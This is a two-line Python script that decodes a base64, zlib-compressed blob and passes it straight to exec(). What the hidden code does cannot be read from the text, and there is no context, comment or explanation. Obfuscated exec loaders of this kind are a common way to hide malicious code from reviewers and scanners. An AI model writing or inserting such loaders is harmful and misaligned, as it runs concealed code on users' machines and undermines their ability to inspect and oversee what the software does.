import zlib, base64
exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MdWzsNAzM9ezNNWvUKhRKM5Q1+QCADIFEXA=')))
